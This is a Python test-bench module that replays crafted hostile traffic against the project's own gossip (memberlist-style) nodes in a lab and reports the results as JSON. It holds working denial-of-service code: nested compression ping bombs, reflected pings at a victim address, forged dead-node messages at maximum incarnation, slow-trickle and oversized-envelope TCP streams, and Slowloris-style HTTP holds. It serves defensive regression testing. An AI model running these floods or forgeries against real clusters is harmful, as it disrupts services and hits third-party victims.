"""Crafted hostile traffic against gossip speakers (issue 11), written with msgpack directly.

Each subcommand replays one attack from the issue and prints one JSON line with what it
sent and what came back, so a test (or a person) can judge the speakers' answers. Run it
from a host on the node network, e.g. the lab's attacker namespace:

    ip netns exec <lab>-attacker python -m bench.hostile garbage --target 192.0.2.11
    python -m bench.hostile pingbomb --target 192.0.2.11 --rate 100 --seconds 10
    python -m bench.hostile reflect --target 192.0.2.11 --victim 192.0.2.100:9999
    python -m bench.hostile incarnation --target 192.0.2.11 --node node1
    python -m bench.hostile trickle --target 192.0.2.11 --states 100000
    python -m bench.hostile envelopes --target 192.0.2.11 --connections 64
    python -m bench.hostile lzwstream --target 192.0.2.11 --connections 4
    python -m bench.hostile http --target 192.0.2.11 --connections 2000

Nothing here uses the project's codec: the bytes are what an attacker would write.
"""

from __future__ import annotations

import argparse
import json
import os
import resource
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from typing import Any

import msgpack

from gossip._lzw import lzw_compress  # only to build LZW bombs; decoding is the target's

GOSSIP_PORT = 7946
HTTP_PORT = 7472
_UDP_HEADERS = 28
_MAX_INC = 0xFFFF_FFFF


def msg(kind: int, body: dict[str, Any]) -> bytes:
    """One memberlist message: type byte + msgpack map (old-spec raw strings, as Go)."""
    return bytes([kind]) + msgpack.packb(body, use_bin_type=False)


def compound(parts: list[bytes]) -> bytes:
    lengths = b"".join(struct.pack(">H", len(p)) for p in parts)
    return bytes([7, len(parts)]) + lengths + b"".join(parts)


def compress(data: bytes) -> bytes:
    return msg(9, {"Algo": 0, "Buf": lzw_compress(data)})


def ping_bomb() -> bytes:
    """~3.7 kB holding 255 x 255 = 65,025 pings: compress(compound(compress(compound)))."""
    inner = compress(compound([b"\x00\x80"] * 255))  # b"\x00\x80": a ping with no fields
    return compress(compound([inner] * 255))


class UdpFlood:
    """Send datagrams at a rate and count what comes back to our socket."""

    def __init__(self, target: tuple[str, int]) -> None:
        self.target = target
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.setblocking(False)
        self.sent = self.sent_bytes = self.received = self.received_bytes = 0

    def run(self, datagrams: Iterator[bytes], rate: float, seconds: float) -> dict[str, Any]:
        start = time.monotonic()
        next_at = start
        for data in datagrams:
            now = time.monotonic()
            if now - start >= seconds:
                break
            if now < next_at:
                self._drain(next_at - now)
            try:
                self.sock.sendto(data, self.target)
            except BlockingIOError:
                continue
            self.sent += 1
            self.sent_bytes += len(data) + _UDP_HEADERS
            next_at += 1.0 / rate
        self._drain(1.0)  # late answers count too
        return {
            "sent": self.sent,
            "sent_bytes": self.sent_bytes,
            "received": self.received,
            "received_bytes": self.received_bytes,
            "amplification": self.received_bytes / max(self.sent_bytes, 1),
        }

    def _drain(self, wait: float) -> None:
        end = time.monotonic() + wait
        while (left := end - time.monotonic()) > 0:
            ready, _, _ = select.select([self.sock], [], [], left)
            if not ready:
                return
            while True:
                try:
                    data = self.sock.recv(65536)
                except BlockingIOError:
                    break
                self.received += 1
                self.received_bytes += len(data) + _UDP_HEADERS


def _repeat(data: bytes) -> Iterator[bytes]:
    while True:
        yield data


def _pings(node: str, **source: Any) -> Iterator[bytes]:
    seq = 0
    while True:
        seq = (seq + 1) & 0xFFFF_FFFF
        yield msg(0, {"SeqNo": seq, "Node": node, **source})


def cmd_garbage(args: argparse.Namespace) -> dict[str, Any]:
    """Item 1: compounds of 255 garbage parts (each one a protocol violation)."""
    data = compound([b"\x63junk"] * 255)
    return UdpFlood((args.target, args.port)).run(_repeat(data), args.rate, args.seconds)


def cmd_pingbomb(args: argparse.Namespace) -> dict[str, Any]:
    """Item 2: nested compress/compound wrappers holding 65,025 pings per datagram."""
    bomb = ping_bomb()
    out = UdpFlood((args.target, args.port)).run(_repeat(bomb), args.rate, args.seconds)
    return {**out, "datagram_bytes": len(bomb)}


def cmd_reflect(args: argparse.Namespace) -> dict[str, Any]:
    """Item 2: pings asking for their acks at a third party's address (`--victim`)."""
    host, _, port = args.victim.rpartition(":")
    source = {"SourceAddr": socket.inet_aton(host), "SourcePort": int(port), "SourceNode": "x"}
    flood = UdpFlood((args.target, args.port))
    return flood.run(_pings(args.node, **source), args.rate, args.seconds)


def cmd_incarnation(args: argparse.Namespace) -> dict[str, Any]:
    """Item 5: `dead{node, 2^32-1}` (and suspect) to every target: unrefutable if accepted."""
    sent = 0
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for target in args.target.split(","):
        for kind in (5, 3):
            data = msg(kind, {"Incarnation": _MAX_INC, "Node": args.node, "From": "attacker"})
            for _ in range(args.repeat):
                sock.sendto(data, (target, args.port))
                sent += 1
    return {"sent": sent}


def _push_pull(states: int, node: str) -> bytes:
    """A push/pull of `states` entries, all about one member at incarnation 0 (stale:
    parsing is the cost, merging changes nothing)."""
    state = msgpack.packb(
        {
            "Addr": socket.inet_aton("192.0.2.11"),
            "Incarnation": 0,
            "Meta": b"",
            "Name": node,
            "Port": GOSSIP_PORT,
            "State": 0,
            "Vsn": bytes([1, 5, 2, 0, 0, 0]),
        },
        use_bin_type=False,
    )
    header = msgpack.packb({"Join": False, "Nodes": states, "UserStateLen": 0})
    return b"\x06" + header + state * states


def cmd_trickle(args: argparse.Namespace) -> dict[str, Any]:
    """Item 3: a large plaintext push/pull written a few bytes at a time."""
    data = _push_pull(args.states, args.node)
    start = time.monotonic()
    with socket.create_connection((args.target, args.port), timeout=5) as conn:
        conn.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        sent = 0
        try:
            while sent < len(data) and time.monotonic() - start < args.seconds:
                conn.sendall(data[sent : sent + args.chunk])
                sent += args.chunk
        except OSError as exc:
            return {"bytes": len(data), "sent": sent, "closed_by_peer": str(exc)}
        conn.settimeout(max(1.0, args.seconds - (time.monotonic() - start)))
        try:
            reply = conn.recv(65536)
        except OSError:
            reply = b""
    return {"bytes": len(data), "sent": min(sent, len(data)), "reply_bytes": len(reply)}


def _raise_fd_limit() -> None:
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def cmd_envelopes(args: argparse.Namespace) -> dict[str, Any]:
    """Item 3: many connections each declaring a 20 MiB encrypted envelope, then zeros."""
    _raise_fd_limit()
    header = b"\x0a" + (20 * 1024 * 1024 - 1).to_bytes(4, "big")
    conns = []
    for _ in range(args.connections):
        try:
            c = socket.create_connection((args.target, args.port), timeout=5)
        except OSError:
            continue
        c.setblocking(False)
        try:
            c.send(header)
        except OSError:
            c.close()
            continue
        conns.append(c)
    zeros = bytes(64 * 1024)
    written = 0
    start = time.monotonic()
    while conns and time.monotonic() - start < args.seconds:
        _, ready, _ = select.select([], conns, [], 0.1)
        for c in ready:
            try:
                written += c.send(zeros)
            except OSError:
                conns.remove(c)
                c.close()
    opened = args.connections
    for c in conns:
        c.close()
    return {"connections": opened, "open_at_end": len(conns), "bytes": written}


def _lzw_push_pull(node: str, user_bytes: int) -> bytes:
    """A push/pull of one state plus `user_bytes` of random user state, compressed with
    LZW (random data does not compress: ~1.37 compressed bytes per byte): the issue's
    6 MB compressed stream, which once decoded in one go on the loop (1 s)."""
    state = msgpack.packb(
        {"Addr": socket.inet_aton("192.0.2.11"), "Incarnation": 0, "Meta": b"",
         "Name": node, "Port": GOSSIP_PORT, "State": 0, "Vsn": bytes([1, 5, 2, 0, 0, 0])},
        use_bin_type=False,
    )  # fmt: skip
    header = msgpack.packb({"Join": False, "Nodes": 1, "UserStateLen": user_bytes})
    body = b"\x06" + header + state + os.urandom(user_bytes)
    return compress(body)


def cmd_lzwstream(args: argparse.Namespace) -> dict[str, Any]:
    """Item 3: compressed push/pulls of ~6 MB LZW each, `--connections` at a time, sent
    again and again for `--seconds`: decoding must be sliced and budgeted, never one
    stall of the loop."""
    _raise_fd_limit()
    data = _lzw_push_pull(args.node, args.lzw_bytes)
    start = time.monotonic()
    streams = written = refused = replies = 0
    while time.monotonic() - start < args.seconds:
        conns = []
        for _ in range(args.connections):
            try:
                c = socket.create_connection((args.target, args.port), timeout=5)
            except OSError:
                refused += 1
                continue
            c.setblocking(False)
            conns.append([c, 0])
        streams += len(conns)
        while conns and time.monotonic() - start < args.seconds:
            _, ready, _ = select.select([], [c for c, _ in conns], [], 0.1)
            for entry in [e for e in conns if e[0] in ready]:
                c, pos = entry
                try:
                    n = c.send(data[pos : pos + 256 * 1024])
                except OSError:
                    conns.remove(entry)
                    c.close()
                    continue
                written += n
                entry[1] = pos + n
                if entry[1] >= len(data):
                    conns.remove(entry)
                    replies += _await_reply(c)
        for c, _ in conns:
            c.close()
    return {"stream_bytes": len(data), "streams": streams, "bytes": written,
            "refused": refused, "replies": replies}  # fmt: skip


def _await_reply(conn: socket.socket) -> int:
    """1 if the speaker answered the whole push/pull (it parsed it), else 0; closes."""
    conn.setblocking(True)
    conn.settimeout(5)
    try:
        return 1 if conn.recv(4096) else 0
    except OSError:
        return 0
    finally:
        conn.close()


def _tcp_ping(target: tuple[str, int], node: str) -> bool:
    """A memberlist TCP ping (the fallback probe): does the gossip port still accept?"""
    try:
        with socket.create_connection(target, timeout=2) as c:
            c.sendall(msg(0, {"SeqNo": 7, "Node": node}))
            c.settimeout(2)
            reply = c.recv(4096)
    except OSError:
        return False
    return bool(reply)


def cmd_http(args: argparse.Namespace) -> dict[str, Any]:
    """Item 8: many slow connections to the metrics port; the gossip port must still
    accept (checked with TCP pings during the attack)."""
    _raise_fd_limit()
    held = []
    for _ in range(args.connections):
        try:
            c = socket.create_connection((args.target, HTTP_PORT), timeout=2)
            c.send(b"GET /metrics HTTP/1.1\r\n")  # and never finish the request
            held.append(c)
        except OSError:
            break
    pings = [_tcp_ping((args.target, args.port), args.node) for _ in range(5)]
    time.sleep(args.seconds)
    pings += [_tcp_ping((args.target, args.port), args.node) for _ in range(5)]
    alive = 0
    for c in held:
        c.setblocking(False)
        try:
            c.recv(1)  # b"" or an answer: the server has given up on it
        except BlockingIOError:
            alive += 1  # still held open by the server
        except OSError:
            pass
        c.close()
    return {"opened": len(held), "still_open_at_end": alive, "tcp_pings_ok": sum(pings)}


COMMANDS: dict[str, Callable[[argparse.Namespace], dict[str, Any]]] = {
    "garbage": cmd_garbage,
    "pingbomb": cmd_pingbomb,
    "reflect": cmd_reflect,
    "incarnation": cmd_incarnation,
    "trickle": cmd_trickle,
    "envelopes": cmd_envelopes,
    "lzwstream": cmd_lzwstream,
    "http": cmd_http,
}


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("attack", choices=sorted(COMMANDS))
    ap.add_argument("--target", required=True, help="speaker IPv4 (comma list for incarnation)")
    ap.add_argument("--port", type=int, default=GOSSIP_PORT)
    ap.add_argument("--node", default="node1", help="member name the messages are about/for")
    ap.add_argument("--rate", type=float, default=300.0, help="datagrams per second")
    ap.add_argument("--seconds", type=float, default=5.0)
    ap.add_argument("--victim", default="192.0.2.100:9999", help="third party IP:PORT")
    ap.add_argument("--repeat", type=int, default=3)
    ap.add_argument("--states", type=int, default=100_000)
    ap.add_argument("--chunk", type=int, default=64, help="bytes per write (trickle)")
    ap.add_argument("--connections", type=int, default=64)
    ap.add_argument("--lzw-bytes", type=int, default=4_400_000, help="user state (lzwstream)")
    args = ap.parse_args(argv)
    print(json.dumps({"attack": args.attack, **COMMANDS[args.attack](args)}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
